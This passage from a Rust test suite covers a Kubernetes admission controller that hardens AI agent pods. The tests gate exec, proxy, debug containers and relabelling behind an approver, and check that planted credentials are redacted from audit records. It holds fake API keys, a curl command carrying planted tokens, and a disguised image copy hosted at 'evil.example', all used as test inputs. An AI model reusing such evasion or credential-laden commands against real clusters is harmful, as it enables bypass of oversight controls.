        "securityContext": {"runAsNonRoot": true, "readOnlyRootFilesystem": true,
            "allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}}}]);
    let mut r = Req::new("UPDATE", "Pod", new, USER);
    r.sub_resource = Some("ephemeralcontainers");
    r.old = serde_json::to_value(&old).unwrap();
    let d = evaluate(&r.review(), &Policy::default(), &hardened_view());
    assert!(!d.allowed);
    let found: Vec<(&str, &str)> = d
        .violations
        .iter()
        .map(|j| (j.violation.check, j.violation.path.as_str()))
        .collect();
    assert_eq!(
        found,
        [("exec-requires-approval", "pods/ephemeralcontainers")]
    );
    let m = d.message.unwrap();
    assert!(
        m.contains("mallory may not add a debug container to agent pod agents/agent"),
        "{m}"
    );
    // No exemption lifts it: the rule is about who reaches in, not what the pod holds.
    let mut policy = Policy::default();
    policy.exemptions.push(super::policy::Exemption {
        reason: "test".into(),
        namespaces: vec![NS.into()],
        users: Vec::new(),
        groups: Vec::new(),
        checks: vec!["exec-requires-approval".into()],
        expires: None,
    });
    assert!(!evaluate(&r.review(), &policy, &hardened_view()).allowed);
}

// --- relabel-requires-approval ---

fn relabel(user: (&'static str, &'static [&'static str]), old: &Pod, new: &Pod) -> Review {
    let mut r = Req::new("UPDATE", "Pod", serde_json::to_value(new).unwrap(), user);
    r.old = serde_json::to_value(old).unwrap();
    r.review()
}

#[test]
fn kubectl_label_pod_agent_app_minus_is_refused_to_a_tenant_in_every_denying_mode() {
    let old = hardened().build();
    let mut new = old.clone();
    new.metadata.labels.as_mut().unwrap().remove("app");
    let d = evaluate(
        &relabel(USER, &old, &new),
        &Policy::default(),
        &hardened_view(),
    );
    assert!(!d.allowed);
    let m = d.message.unwrap();
    assert!(
        m.contains("relabel-requires-approval")
            && m.contains("metadata.labels.app")
            && m.contains("remove the agent label app=openclaw"),
        "{m}"
    );
    // Warn mode lets it through with a warning; audit records it.
    let mut policy = Policy::default();
    policy.mode = super::policy::Mode::Warn;
    let d = evaluate(&relabel(USER, &old, &new), &policy, &hardened_view());
    assert!(d.allowed && d.warnings.len() == 1, "{:?}", d.warnings);
    // An approver and the ReplicaSet controller may.
    for who in [APPROVER, RS_CONTROLLER] {
        let d = evaluate(
            &relabel(who, &old, &new),
            &Policy::default(),
            &hardened_view(),
        );
        assert!(d.allowed, "{}: {:?}", who.0, d.message);
    }
    // Other labels stay free, and an unchanged spec is not judged again.
    let mut team = old.clone();
    team.metadata
        .labels
        .as_mut()
        .unwrap()
        .insert("team".into(), "research".into());
    let d = evaluate(
        &relabel(USER, &old, &team),
        &Policy::default(),
        &hardened_view(),
    );
    assert_eq!(d.skipped, Some(super::Skip::Unchanged));
}

#[test]
fn a_label_only_update_that_makes_a_pod_an_agent_judges_the_whole_pod() {
    let unlabelled = pod("agent")
        .label("app", "web")
        .container("agent")
        .image("nginx:1.27")
        .privileged(true)
        .build();
    let mut old = unlabelled.clone();
    old.spec.as_mut().unwrap().host_pid = Some(true);
    let mut new = old.clone();
    new.metadata
        .labels
        .as_mut()
        .unwrap()
        .insert("app".into(), "openclaw".into());
    let d = evaluate(
        &relabel(USER, &old, &new),
        &Policy::default(),
        &hardened_view(),
    );
    assert!(!d.allowed);
    let checks: Vec<&str> = d.violations.iter().map(|j| j.violation.check).collect();
    assert!(
        checks.contains(&"no-host-access") && checks.contains(&"run-as-non-root"),
        "{checks:?}"
    );
}

#[test]
fn a_workload_template_keeps_its_agent_labels_too() {
    let agent = hardened().build();
    let mut plain = agent.clone();
    plain.metadata.labels.as_mut().unwrap().remove("app");
    let mut r = Req::new("UPDATE", "Deployment", deployment("agent", &plain), USER);
    r.old = deployment("agent", &agent);
    let d = evaluate(&r.review(), &Policy::default(), &hardened_view());
    assert!(!d.allowed);
    assert_eq!(
        d.violations
            .iter()
            .map(|j| j.violation.path.as_str())
            .collect::<Vec<_>>(),
        ["spec.template.metadata.labels.app"]
    );
}

#[test]
fn assume_openshift_judges_a_template_as_restricted_v2_will_fill_its_pods() {
    let bare = pod("agent")
        .label("app", "openclaw")
        .service_account(SA)
        .container("agent")
        .read_only_root_filesystem(true)
        .build();
    let d = deployment("agent", &bare);
    let plain = evaluate(
        &Req::new("CREATE", "Deployment", d.clone(), USER).review(),
        &Policy::default(),
        &hardened_view(),
    );
    assert!(!plain.allowed);
    let policy = Policy {
        assume_openshift: true,
        ..Default::default()
    };
    let filled = evaluate(
        &Req::new("CREATE", "Deployment", d, USER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(filled.allowed, "{:?}", filled.message);
}

/// An agent Pod, hardened but for what an SCC may fill in: no security context on the pod or
/// its container beyond a read-only root filesystem (no SCC sets that), annotated as admitted
/// under `scc` when given.
fn silent_pod(scc: Option<&str>) -> Value {
    let mut b = hardened()
        .with_container("agent")
        .no_security_context()
        .read_only_root_filesystem(true)
        .spec(|s| s.security_context = None);
    if let Some(scc) = scc {
        b = b.annotation(super::openshift::SCC_ANNOTATION, scc);
    }
    let p = b.build();
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": p.metadata, "spec": p.spec})
}

fn failed_checks(d: &Decision) -> Vec<&'static str> {
    let mut c: Vec<&'static str> = d.violations.iter().map(|j| j.violation.check).collect();
    c.sort_unstable();
    c.dedup();
    c
}

fn on_openshift(sccs: &[&str]) -> Policy {
    Policy {
        assume_openshift: true,
        openshift_sccs: sccs.iter().map(|s| s.to_string()).collect(),
        ..Default::default()
    }
}

/// What an SCC leaves a silent container to: every check it may fill in.
const SCC_CHECKS: [&str; 4] = [
    "drop-all-capabilities",
    "no-privilege-escalation",
    "run-as-non-root",
    "seccomp-profile",
];

#[test]
fn assume_openshift_fills_a_pod_in_only_as_the_listed_scc_its_annotation_names() {
    let policy = Policy {
        assume_openshift: true,
        ..Default::default()
    };
    assert_eq!(policy.openshift_sccs, ["restricted-v2"]);
    let judge = |pod: Value, policy: &Policy| {
        evaluate(
            &Req::new("CREATE", "Pod", pod, USER).review(),
            policy,
            &hardened_view(),
        )
    };

    // Admitted under restricted-v2: what it fills in makes the silent Pod a box.
    let v2 = judge(silent_pod(Some("restricted-v2")), &policy);
    assert!(v2.allowed, "{:?}", v2.message);

    // anyuid fills in nothing that counts (it runs the image's user, root included), and
    // a Pod with no annotation was not admitted by an SCC at all: both judged as written.
    for scc in [Some("anyuid"), None] {
        let d = judge(silent_pod(scc), &policy);
        assert!(!d.allowed, "{scc:?}");
        assert_eq!(failed_checks(&d), SCC_CHECKS, "{scc:?}");
    }
    let mut root = silent_pod(Some("anyuid"));
    root["spec"]["containers"][0]["securityContext"]["runAsUser"] = 0.into();
    let d = judge(root, &policy);
    assert!(failed_checks(&d).contains(&"run-as-non-root"));
    assert!(
        d.violations
            .iter()
            .any(|j| j.violation.path == "spec.containers[0].securityContext.runAsUser"),
        "{:?}",
        d.violations
    );

    // A known SCC that the policy does not list is not trusted either.
    let d = judge(silent_pod(Some("nonroot-v2")), &policy);
    assert_eq!(failed_checks(&d), SCC_CHECKS);
    let d = judge(
        silent_pod(Some("nonroot-v2")),
        &on_openshift(&["restricted-v2", "nonroot-v2"]),
    );
    assert!(d.allowed, "{:?}", d.message);

    // Without assumeOpenShift the annotation means nothing.
    let d = judge(silent_pod(Some("restricted-v2")), &Policy::default());
    assert_eq!(failed_checks(&d), SCC_CHECKS);
}

#[test]
fn the_v1_restricted_scc_fills_in_a_user_but_neither_escalation_nor_seccomp() {
    let d = evaluate(
        &Req::new("CREATE", "Pod", silent_pod(Some("restricted")), USER).review(),
        &on_openshift(&["restricted-v2", "restricted"]),
        &hardened_view(),
    );
    assert!(!d.allowed);
    // A UID from the project's range makes it non-root; KILL, MKNOD, SETUID and SETGID are
    // dropped, not ALL; escalation stays allowed and no seccomp profile is set.
    assert_eq!(
        failed_checks(&d),
        [
            "drop-all-capabilities",
            "no-privilege-escalation",
            "seccomp-profile"
        ]
    );
}

#[test]
fn assume_openshift_fills_in_a_pod_only_at_creation_never_a_debug_container() {
    // The SCC admission skips subresources and mutates no Pod UPDATE: a debug container added
    // to a Pod admitted under restricted-v2 runs as its image says, so it is judged as sent.
    let policy = on_openshift(&["restricted-v2"]);
    let old = silent_pod(Some("restricted-v2"));
    let mut new = old.clone();
    new["spec"]["ephemeralContainers"] = json!([{"name": "debug", "image": "busybox", "targetContainerName": "agent",
            "securityContext": {"readOnlyRootFilesystem": true}}]);
    // The approver debugs: from anyone else it is refused as an exec whatever it holds.
    let mut r = Req::new("UPDATE", "Pod", new, APPROVER);
    r.old = old;
    r.sub_resource = Some("ephemeralcontainers");
    let d = evaluate(&r.review(), &policy, &hardened_view());
    assert!(!d.allowed);
    assert!(
        d.violations
            .iter()
            .all(|j| j.violation.path.starts_with("spec.ephemeralContainers[0]")),
        "{:?}",
        d.violations
    );
    assert!(failed_checks(&d).contains(&"no-privilege-escalation"));

    // A hardened one passes: nothing the Pod had is held against it.
    r.object["spec"]["ephemeralContainers"][0]["securityContext"] = json!({
        "runAsNonRoot": true, "readOnlyRootFilesystem": true, "allowPrivilegeEscalation": false,
        "capabilities": {"drop": ["ALL"]}, "seccompProfile": {"type": "RuntimeDefault"}});
    let d = evaluate(&r.review(), &policy, &hardened_view());
    assert!(d.allowed, "{:?}", d.message);
}

#[test]
fn a_policy_naming_an_scc_the_engine_does_not_know_is_refused_at_load() {
    let err = Policy::from_yaml(
        "assumeOpenShift: true\nopenShiftSccs: [restricted-v2, privileged]\n",
        "policy.yaml",
    )
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("openShiftSccs[1]")
            && err.contains("\"privileged\"")
            && err.contains("known: restricted-v2, restricted, nonroot-v2, nonroot, anyuid"),
        "{err}"
    );
    let ok = Policy::from_yaml("openShiftSccs: [restricted-v2, restricted]\n", "p").unwrap();
    assert_eq!(ok.openshift_sccs, ["restricted-v2", "restricted"]);
}

#[test]
fn two_agents_in_one_namespace_get_their_own_service_names() {
    let policy = Policy::default();
    let names: Vec<String> = ["research", "mail"]
        .iter()
        .map(|n| {
            let d = deployment(n, &hardened().build());
            let p = pod_from(&d, "6b5c4d3e2");
            let m = mutate(
                &Req::new("CREATE", "Pod", p.clone(), RS_CONTROLLER).review(),
                &policy,
                &hardened_view(),
            )
            .unwrap();
            let mut doc = p;
            json_patch::patch(&mut doc, &m.patch.as_ref().unwrap().to_json_patch()).unwrap();
            doc["spec"]["containers"][0]["env"]
                .as_array()
                .unwrap()
                .iter()
                .find(|e| e["name"] == SERVICE_NAME)
                .unwrap()["value"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert_eq!(names, ["research", "mail"]);
}

/// Parses the allow-list the `default-deny-egress` fix prints ("... allowing only UDP 53,
/// TCP 443, TCP 4318 to namespace observability") into NetworkPolicy egress rules.
fn egress_rules_from_fix(fix: &str) -> Vec<Value> {
    let list = fix
        .split("allowing only ")
        .nth(1)
        .expect("the fix names the allow-list");
    list.split(", ")
        .map(|item| {
            let (ports, ns) = match item.split_once(" to namespace ") {
                Some((p, n)) => (p, Some(n)),
                None => (item, None),
            };
            let (proto, port) = ports.split_once(' ').unwrap();
            let mut rule = json!({"ports": [{"protocol": proto, "port": port.parse::<i64>().unwrap()}]});
            if let Some(n) = ns {
                rule["to"] = json!([{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": n}}}]);
            }
            rule
        })
        .collect()
}

#[test]
fn an_unhardened_agent_that_follows_every_printed_fix_is_accepted() {
    let policy = Policy::default();
    // The published manifests' shape, as a Deployment in a namespace with nothing in it.
    let mut d = json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "openclaw", "namespace": NS},
        "spec": {"selector": {"matchLabels": {"app": "openclaw"}}, "template": {
            "metadata": {"labels": {"app": "openclaw"}},
            "spec": {"containers": [{"name": "gateway", "image": "ghcr.io/openclaw/openclaw:latest",
                "env": [{"name": "OPENAI_API_KEY", "value": "sk-proj-FAKE-example-key-not-real-0123456789abcdef"}]}]}}}
    });
    let mut view = StaticView::new();
    view.add(
        &json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NS}}),
        NS,
    )
    .unwrap();
    let mut seen = Vec::new();
    for _round in 0..5 {
        let decision = evaluate(
            &Req::new("CREATE", "Deployment", d.clone(), USER).review(),
            &policy,
            &view,
        );
        if decision.allowed {
            // Its Pods, made by the controller and mutated, pass too, and the collector
            // the mutation points them at is inside the egress the fix allowed.
            let pod = pod_from(&d, "5f6e7d8c9");
            let m = mutate(
                &Req::new("CREATE", "Pod", pod.clone(), RS_CONTROLLER).review(),
                &policy,
                &view,
            )
            .unwrap();
            let mut stored = pod;
            json_patch::patch(&mut stored, &m.patch.as_ref().unwrap().to_json_patch()).unwrap();
            let p = evaluate(
                &Req::new("CREATE", "Pod", stored, RS_CONTROLLER).review(),
                &policy,
                &view,
            );
            assert!(p.allowed, "{:?}", p.message);
            let endpoint = &policy.mutations.otel.endpoint;
            assert!(
                endpoint.ends_with(":4318") && endpoint.contains(".observability."),
                "{endpoint}"
            );
            seen.sort();
            seen.dedup();
            assert_eq!(
                seen,
                [
                    "dedicated-service-account",
                    "default-deny-egress",
                    "drop-all-capabilities",
                    "no-plaintext-credentials",
                    "no-privilege-escalation",
                    "read-only-root-filesystem",
                    "resource-limits",
                    "run-as-non-root",
                    "sandboxed-runtime",
                    "seccomp-profile",
                    "user-namespace"
                ]
            );
            return;
        }
        let spec = &mut d["spec"]["template"]["spec"];
        for j in &decision.violations {
            let v = &j.violation;
            seen.push(v.check);
            let c = &mut spec["containers"][0];
            match v.check {
                "run-as-non-root" => {
                    assert!(
                        v.fix.contains("runAsNonRoot: true at pod level"),
                        "{}",
                        v.fix
                    );
                    spec["securityContext"]["runAsNonRoot"] = true.into();
                }
                "read-only-root-filesystem" => {
                    assert!(v.fix.contains("readOnlyRootFilesystem: true"), "{}", v.fix);
                    c["securityContext"]["readOnlyRootFilesystem"] = true.into();
                }
                "drop-all-capabilities" => {
                    assert!(v.fix.contains("capabilities.drop: [\"ALL\"]"), "{}", v.fix);
                    c["securityContext"]["capabilities"]["drop"] = json!(["ALL"]);
                }
                "no-privilege-escalation" => {
                    assert!(
                        v.fix.contains("allowPrivilegeEscalation: false"),
                        "{}",
                        v.fix
                    );
                    c["securityContext"]["allowPrivilegeEscalation"] = false.into();
                }
                "seccomp-profile" => {
                    assert!(
                        v.fix.contains("seccompProfile.type: RuntimeDefault"),
                        "{}",
                        v.fix
                    );
                    spec["securityContext"]["seccompProfile"]["type"] = "RuntimeDefault".into();
                }
                "dedicated-service-account" => {
                    assert!(v.fix.contains("create a ServiceAccount"), "{}", v.fix);
                    spec["serviceAccountName"] = "openclaw".into();
                    view.add(
                        &json!({"apiVersion": "v1", "kind": "ServiceAccount",
                        "metadata": {"name": "openclaw", "namespace": NS}}),
                        NS,
                    )
                    .unwrap();
                }
                "sandboxed-runtime" => {
                    assert!(v.fix.contains("runtimeClassName"), "{}", v.fix);
                    spec["runtimeClassName"] = "gvisor".into();
                }
                "user-namespace" => {
                    assert!(v.fix.contains("hostUsers: false"), "{}", v.fix);
                    spec["hostUsers"] = false.into();
                }
                "resource-limits" => {
                    assert!(v.fix.contains("resources.limits.memory"), "{}", v.fix);
                    c["resources"]["limits"] = json!({"cpu": "1", "memory": "1Gi"});
                }
                "no-plaintext-credentials" => {
                    assert!(v.fix.contains("valueFrom.secretKeyRef"), "{}", v.fix);
                    c["env"][0] = json!({"name": "OPENAI_API_KEY",
                        "valueFrom": {"secretKeyRef": {"name": "openai", "key": "api-key"}}});
                }
                "default-deny-egress" => {
                    view.add(&json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
                        "metadata": {"name": "openclaw-egress", "namespace": NS},
                        "spec": {"podSelector": {"matchLabels": {"app": "openclaw"}}, "policyTypes": ["Egress"],
                            "egress": egress_rules_from_fix(&v.fix)}}), NS).unwrap();
                    assert!(
                        v.fix.contains("TCP 4318 to namespace observability"),
                        "{}",
                        v.fix
                    );
                }
                other => panic!("no fix applied for {other}: {}", v.fix),
            }
        }
    }
    panic!("still refused after five rounds of fixes");
}

// --- the catch-all: agents found by image, without an agent label ---

fn unlabelled(image: &str) -> Pod {
    let mut p = hardened().image(image).build();
    p.metadata.labels = Some([("team".to_string(), "research".to_string())].into());
    p
}

fn catch_all(action: super::policy::Action) -> Policy {
    let mut p = Policy::default();
    p.catch_all.enabled = true;
    p.catch_all.action = action;
    p
}

#[test]
fn a_copy_of_the_image_under_another_name_is_caught_by_a_pattern() {
    let copy = "evil.example/tenant/openclaw-copy:latest";
    let mut bad = unlabelled(copy);
    bad.spec.as_mut().unwrap().host_network = Some(true);
    let pod = serde_json::to_value(bad).unwrap();
    let review = Req::new("CREATE", "Pod", pod, USER).review();
    // Exact names miss the copy...
    let exact = evaluate(
        &review,
        &catch_all(super::policy::Action::Deny),
        &hardened_view(),
    );
    assert_eq!(exact.skipped, Some(super::Skip::NotAnAgent));
    // ...a pattern in the policy catches it.
    let policy = Policy::from_yaml(
        "catchAll:\n  enabled: true\n  action: deny\n  images: [openclaw/openclaw, \"*/openclaw*\"]\n",
        "p.yaml",
    )
    .unwrap();
    let caught = evaluate(&review, &policy, &hardened_view());
    assert!(!caught.allowed, "{caught:?}");
}

#[test]
fn a_catch_all_image_with_a_tag_is_refused_at_load() {
    let err = Policy::from_yaml(
        "catchAll:\n  images: [\"openclaw/openclaw:2026.1\"]\n",
        "p.yaml",
    )
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("catchAll.images[0]") && err.contains("without tag"),
        "{err}"
    );
    assert!(
        Policy::from_yaml(
            "catchAll:\n  images: [\"registry:5000/openclaw/*\"]\n",
            "p.yaml"
        )
        .is_ok(),
        "a registry port is not a tag"
    );
}

#[test]
fn without_the_catch_all_an_unlabelled_openclaw_pod_is_not_an_agent() {
    let pod = serde_json::to_value(unlabelled("ghcr.io/openclaw/openclaw:2026.1")).unwrap();
    let d = evaluate(
        &Req::new("CREATE", "Pod", pod, USER).review(),
        &Policy::default(),
        &hardened_view(),
    );
    assert_eq!(d.skipped, Some(super::Skip::NotAnAgent));
}

#[test]
fn the_catch_all_judges_openclaw_images_with_its_own_action() {
    use super::policy::Action;
    let mut bad = unlabelled("registry.example.com/mirror/openclaw/openclaw:2026.1@sha256:abc");
    bad.spec.as_mut().unwrap().containers[0]
        .security_context
        .as_mut()
        .unwrap()
        .read_only_root_filesystem = Some(false);
    let bad = serde_json::to_value(bad).unwrap();
    let warned = evaluate(
        &Req::new("CREATE", "Pod", bad.clone(), USER).review(),
        &catch_all(Action::Warn),
        &hardened_view(),
    );
    assert!(warned.allowed);
    assert_eq!(warned.warnings.len(), 1, "{:?}", warned.warnings);
    let denied = evaluate(
        &Req::new("CREATE", "Pod", bad, USER).review(),
        &catch_all(Action::Deny),
        &hardened_view(),
    );
    assert!(!denied.allowed);
    // A look-alike repository is not the OpenClaw image.
    let other = serde_json::to_value(unlabelled("ghcr.io/openclaw/openclaw-helper:1")).unwrap();
    let d = evaluate(
        &Req::new("CREATE", "Pod", other, USER).review(),
        &catch_all(Action::Deny),
        &hardened_view(),
    );
    assert_eq!(d.skipped, Some(super::Skip::NotAnAgent));
}

#[test]
fn the_catch_all_mutates_what_it_finds_and_judges_templates() {
    use super::policy::Action;
    let pod = serde_json::to_value(unlabelled("openclaw/openclaw:latest")).unwrap();
    let m = mutate(
        &Req::new("CREATE", "Pod", pod, USER).review(),
        &catch_all(Action::Deny),
        &hardened_view(),
    )
    .unwrap();
    assert!(m.mutations.contains(&"otel-env"), "{:?}", m.mutations);
    let mut bad = unlabelled("openclaw/openclaw:latest");
    bad.spec.as_mut().unwrap().host_network = Some(true);
    let d = deployment("hidden", &bad);
    let judged = evaluate(
        &Req::new("CREATE", "Deployment", d, USER).review(),
        &catch_all(Action::Deny),
        &hardened_view(),
    );
    assert!(!judged.allowed);
    assert!(
        judged
            .violations
            .iter()
            .any(|j| j.violation.path.starts_with("spec.template.spec"))
    );
}

// --- exec-requires-approval ---

fn exec_review(pod: &str, user: (&str, &[&str])) -> Review {
    let v = json!({
        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {
            "uid": "0b1c2d3e-0000-4000-8000-0000000000e1",
            "kind": {"group": "", "version": "v1", "kind": "PodExecOptions"},
            "resource": {"group": "", "version": "v1", "resource": "pods"},
            "subResource": "exec", "namespace": NS, "name": pod, "operation": "CONNECT",
            "userInfo": {"username": user.0, "groups": user.1},
            "object": {"apiVersion": "v1", "kind": "PodExecOptions", "stdin": true, "tty": true,
                "container": "agent", "command": ["sh", "-c", "cat /etc/hostname"]},
            "oldObject": null, "dryRun": false
        }
    });
    admission::parse(&serde_json::to_vec(&v).unwrap()).unwrap()
}

fn facts(labels: &[(&str, &str)], image: &str) -> PodFacts {
    PodFacts {
        labels: labels
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        images: vec![image.to_string()],
        sandbox: None,
    }
}

fn view_with_pods() -> StaticView {
    let mut v = hardened_view();
    let agent = facts(&[("app", "openclaw")], "ghcr.io/openclaw/openclaw:2026.1");
    let web = facts(&[("app", "web")], "nginx:1.27");
    // A copy of the OpenClaw image under another name, with no agent label.
    let copy = facts(&[("app", "gateway")], "evil.example/tenant/openclaw-copy:1");
    v.index.apply_pod(NS, "agent-0", Some(agent.clone()));
    v.index.apply_pod(NS, "web-0", Some(web.clone()));
    v.index.apply_pod(NS, "copy-0", Some(copy.clone()));
    v.index.apply_pod(NS, "gone", None);
    v.index
        .apply_service_pods(NS, "gateway", Some(vec![web.clone(), agent]));
    v.index.apply_service_pods(NS, "web", Some(vec![web]));
    v.index.apply_service_pods(NS, "copies", Some(vec![copy]));
    v.index.apply_service_pods(NS, "gone", None);
    v
}

/// A CONNECT to `resource/name/proxy`, as `kubectl proxy` and the API server's proxy URLs
/// send it.
fn proxy_review(resource: &str, name: &str, user: (&str, &[&str])) -> Review {
    let kind = if resource == "pods" {
        "PodProxyOptions"
    } else {
        "ServiceProxyOptions"
    };
    let v = json!({
        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {
            "uid": "0b1c2d3e-0000-4000-8000-0000000000e2",
            "kind": {"group": "", "version": "v1", "kind": kind},
            "resource": {"group": "", "version": "v1", "resource": resource},
            "subResource": "proxy", "namespace": NS, "name": name, "operation": "CONNECT",
            "userInfo": {"username": user.0, "groups": user.1},
            "object": {"apiVersion": "v1", "kind": kind, "path": "/v1/chat"},
            "oldObject": null, "dryRun": false
        }
    });
    admission::parse(&serde_json::to_vec(&v).unwrap()).unwrap()
}

#[test]
fn proxy_to_an_agent_pod_or_a_service_selecting_one_needs_an_approver() {
    let policy = Policy::default();
    let view = view_with_pods();
    for (resource, name, says) in [
        ("pods", "agent-0", "proxy to agent pod agents/agent-0"),
        ("pods", "agent-0:18789", "proxy to agent pod agents/agent-0"),
        (
            "pods",
            "https:agent-0:18789",
            "proxy to agent pod agents/agent-0",
        ),
        (
            "services",
            "gateway:http",
            "proxy to service agents/gateway, which selects agent pods",
        ),
    ] {
        let d = evaluate(&proxy_review(resource, name, USER), &policy, &view);
        assert!(!d.allowed, "{resource}/{name}");
        let m = d.message.unwrap();
        assert!(
            m.contains(says) && m.contains(&format!("{resource}/proxy")),
            "{resource}/{name}: {m}"
        );
        assert!(
            evaluate(&proxy_review(resource, name, APPROVER), &policy, &view).allowed,
            "{resource}/{name}"
        );
    }
    for (resource, name) in [("pods", "web-0"), ("services", "web"), ("services", "gone")] {
        let d = evaluate(&proxy_review(resource, name, USER), &policy, &view);
        assert_eq!(
            d.skipped,
            Some(super::Skip::NotAnAgent),
            "{resource}/{name}"
        );
    }
    let unknown = evaluate(&proxy_review("services", "unlooked", USER), &policy, &view);
    assert!(!unknown.allowed);
    assert!(unknown.message.unwrap().contains("possible agent pods"));
}

#[test]
fn catch_all_agents_get_the_exec_and_proxy_rules_too() {
    let view = view_with_pods();
    let mut policy = Policy::default();
    assert_eq!(
        evaluate(&exec_review("copy-0", USER), &policy, &view).skipped,
        Some(super::Skip::NotAnAgent),
        "without a matching catch-all pattern it is no agent"
    );
    policy.catch_all.enabled = true;
    policy.catch_all.images = vec!["*/openclaw*".into()];
    let d = evaluate(&exec_review("copy-0", USER), &policy, &view);
    assert!(!d.allowed);
    assert!(d.message.unwrap().contains("exec-requires-approval"));
    assert!(!evaluate(&proxy_review("services", "copies", USER), &policy, &view).allowed);
    assert!(evaluate(&exec_review("copy-0", APPROVER), &policy, &view).allowed);
}

#[test]
fn a_shell_in_an_agent_is_refused_to_an_ordinary_user_naming_user_pod_and_rule() {
    let d = evaluate(
        &exec_review("agent-0", USER),
        &Policy::default(),
        &view_with_pods(),
    );
    assert!(!d.allowed);
    let m = d.message.unwrap();
    assert!(
        m.contains("mallory")
            && m.contains("agents/agent-0")
            && m.contains("exec-requires-approval"),
        "{m}"
    );
    assert!(d.audit_annotations[super::AUDIT_EXEC].contains("cat /etc/hostname"));
}

#[test]
fn an_approvers_shell_is_let_through_and_recorded_with_the_command() {
    let d = evaluate(
        &exec_review("agent-0", APPROVER),
        &Policy::default(),
        &view_with_pods(),
    );
    assert!(d.allowed);
    let rec = &d.audit_annotations[super::AUDIT_EXEC];
    assert!(
        rec.contains("bob") && rec.contains("sh -c cat /etc/hostname") && rec.contains("approver"),
        "{rec}"
    );
}

#[test]
fn credentials_in_an_exec_command_never_reach_the_audit_annotation() {
    // Keys planted as a header, a flag's next argument, a URL password, an assignment and a
    // word inside a shell line; the record keeps the rest of the command.
    let secrets = [
        "s3cr3tT0kenValuePLANTED",
        "sk-ant-api03-PLANTEDplantedPLANTED0123456789",
        "hunter2PLANTED",
        "sk-proj-PLANTED0123456789abcdef",
        "ghp_PLANTED0123456789abcdefABCDEF0123",
    ];
    let command: Vec<String> = [
        "curl",
        "-H",
        &format!("Authorization: Bearer {}", secrets[0]),
        "https://api.example.com/v1/models",
        "--api-key",
        secrets[1],
        &format!("https://admin:{}@db.internal/app", secrets[2]),
        &format!("OPENAI_API_KEY={}", secrets[3]),
        &format!("export GITHUB_TOKEN={} && git push", secrets[4]),
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    for who in [APPROVER, USER] {
        let mut r = exec_review("agent-0", who);
        let super::review::Subject::Connect(options) = &mut r.object else {
            panic!("not a CONNECT");
        };
        options.command = command.clone();
        let d = evaluate(&r, &Policy::default(), &view_with_pods());
        let rec = &d.audit_annotations[super::AUDIT_EXEC];
        for secret in secrets {
            assert!(!rec.contains(secret), "{secret} in {rec}");
        }
        assert_eq!(rec.matches("<redacted: ").count(), 5, "{rec}");
        assert!(
            rec.contains(": curl -H <redacted: ")
                && rec.contains(" https://api.example.com/v1/models --api-key <redacted: "),
            "{rec}"
        );
        let text = format!("{d:?}");
        for secret in secrets {
            assert!(!text.contains(secret), "{secret} in the decision");
        }
    }
}

#[test]
fn a_shell_elsewhere_is_none_of_its_business_but_an_unknown_pod_is_refused() {
    let policy = Policy::default();
    assert_eq!(
        evaluate(&exec_review("web-0", USER), &policy, &view_with_pods()).skipped,
        Some(super::Skip::NotAnAgent)
    );
    assert_eq!(
        evaluate(&exec_review("gone", USER), &policy, &view_with_pods()).skipped,
        Some(super::Skip::NotAnAgent)
    );
    let unknown = evaluate(
        &exec_review("not-looked-up", USER),
        &policy,
        &view_with_pods(),
    );
    assert!(!unknown.allowed);
    assert!(unknown.message.unwrap().contains("possible agent"));
}

#[test]
fn exec_approval_follows_the_modes() {
    let mut policy = Policy::default();
    policy.mode = super::policy::Mode::Audit;
    let d = evaluate(&exec_review("agent-0", USER), &policy, &view_with_pods());
    assert!(d.allowed && d.warnings.is_empty());
    assert!(d.audit_annotations.contains_key(super::AUDIT_VIOLATIONS));
    policy.mode = super::policy::Mode::Warn;
    let d = evaluate(&exec_review("agent-0", USER), &policy, &view_with_pods());
    assert!(d.allowed);
    assert_eq!(d.warnings.len(), 1);
    policy.mode = super::policy::Mode::Enforce;
    policy.approver_users = vec!["mallory".into()];
    assert!(evaluate(&exec_review("agent-0", USER), &policy, &view_with_pods()).allowed);
}
